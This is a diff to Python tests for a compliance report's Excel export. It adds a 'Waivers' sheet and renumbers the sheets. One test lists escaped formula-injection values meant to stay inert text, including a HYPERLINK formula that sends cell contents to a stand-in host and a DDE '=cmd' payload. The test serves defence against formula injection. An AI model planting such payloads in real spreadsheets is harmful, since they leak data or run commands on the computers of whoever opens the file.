@@ -89,7 +89,7 @@ def test_hostile_names_stay_text(report):
     cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
     assert not [cell.value for cell in cells if cell.data_type not in ("s", "n", "d")]
     assert not [cell.value for cell in cells if isinstance(cell.value, str) and re.match(r"[\s]*[-=+@＝]", cell.value)]
-    assets = {row[0] for row in book.worksheets[5].iter_rows(min_row=2, values_only=True)}
+    assets = {row[0] for row in book.worksheets[6].iter_rows(min_row=2, values_only=True)}
     assert assets == {
         "'=HYPERLINK(\"https://example.org/?\"&A1,\"x\")", "'+1", "'-1", "'@x", "'=cmd|'/c calc'!A1", "'＝1+1",
         "<b>&amp;</b>", "#REF!", "TRUE", "1e5", "2026-01-01", "消息库", "'quoted", "a_x005F_x000D_b",  # as Excel has it written; openpyxl reads it as it is
@@ -103,7 +103,7 @@ def test_the_numbers_are_those_of_the_json(report):
     _, path, document = report
     tables = {block["id"]: block for section in document["sections"] for block in section["blocks"] if block["block"] == "table"}
     book = load_workbook(path)
-    for sheet, table in ((1, "results"), (2, "breaches"), (3, "unproven"), (4, "evidence"), (5, "asset-list"), (6, "policies")):
+    for sheet, table in ((1, "results"), (2, "breaches"), (4, "unproven"), (5, "evidence"), (6, "asset-list"), (7, "policies")):
         rows = list(book.worksheets[sheet].iter_rows(min_row=2, values_only=True))
         assert len(rows) == len(tables[table]["rows"])
         columns = tables[table]["columns"]
@@ -140,10 +140,10 @@ def test_libreoffice_reads_every_sheet_as_it_was_meant(report, tmp_path):
     language, path, document = report
     sheets = converted(path, tmp_path)
     assert list(sheets) == {
-        "en": ["Summary", "Controls", "Breaches", "Unproven", "Evidence", "Assets", "Policies", "About"],
-        "zh": ["摘要", "控制项结果", "不达标时段", "未证实时段", "证据", "资产", "策略", "说明"],
+        "en": ["Summary", "Controls", "Breaches", "Waivers", "Unproven", "Evidence", "Assets", "Policies", "About"],
+        "zh": ["摘要", "控制项结果", "不达标时段", "豁免", "未证实时段", "证据", "资产", "策略", "说明"],
     }[language]  # fmt: skip
-    summary, controls, breaches, _, _, assets, *_ = sheets.values()
+    summary, controls, breaches, _, _, _, assets, *_ = sheets.values()
     assert summary[0][0] == ("string", None, document["title"])
     assert len(breaches) == 1 + len(NAMES)
     for row in breaches[1:]:
@@ -216,7 +216,7 @@ def test_assess_hands_over_a_workbook(session, tmp_path):
     done = session("assess", *PERIOD, "--format", "xlsx", "-o", out)
     assert done.code == 1  # something is breached
     book = load_workbook(out)
-    assert book.sheetnames == ["Summary", "Controls", "Breaches", "Unproven", "Evidence", "Assets", "About"]
+    assert book.sheetnames == ["Summary", "Controls", "Breaches", "Waivers", "Unproven", "Evidence", "Assets", "About"]
     assert book["Breaches"].max_row == 1 + len(NAMES)
     refused = session("assess", *PERIOD, "--format", "xlsx")
     assert refused.code == 2
